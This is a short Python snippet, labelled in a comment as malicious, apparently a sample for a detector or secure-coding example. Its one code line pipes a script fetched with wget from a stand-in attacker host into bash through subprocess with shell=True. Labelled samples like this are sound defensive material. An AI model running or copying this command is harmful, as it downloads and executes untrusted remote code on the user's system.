# Malicious: `wget -O- | bash` through subprocess with a shell; remote script execution.
import subprocess

subprocess.check_call("wget -qO- https://attacker.example/bootstrap | bash", shell=True)
